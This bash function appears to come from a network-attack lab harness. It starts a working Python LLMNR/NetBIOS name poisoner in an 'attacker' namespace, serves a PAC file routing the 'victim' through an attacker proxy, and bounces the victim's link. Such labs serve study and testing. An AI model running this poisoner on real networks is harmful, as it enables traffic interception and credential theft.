# shellcheck shell=bash
# A poisoner answers every name that is called into the link (LLMNR, NetBIOS), and serves a proxy script.
start() { pac $ATT_IP:3128; att_http "$S/run/pac"
  sbg attacker poison python3 -c '
import select, socket, struct, sys
me = socket.inet_aton(sys.argv[1])
def bound(port, group=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", port))
    if group:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + me)
    return s
llmnr, netbios = bound(5355, "224.0.0.252"), bound(137)
while True:
    for s in select.select([llmnr, netbios], [], [])[0]:
        q, who = s.recvfrom(512)
        if len(q) < 18 or q[2] & 0x80:
            continue
        if s is llmnr:
            a = q[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + q[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + me
        else:
            a = q[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + q[12:46] + b"\0\x20\0\1\0\0\0\xa5\0\6\0\0" + me
        s.sendto(a, who)
' $ATT_IP
  sleep 1; ns victim ip link set eth0 down; sleep 1; ns victim ip link set eth0 up; mark; victim_dhcp; }
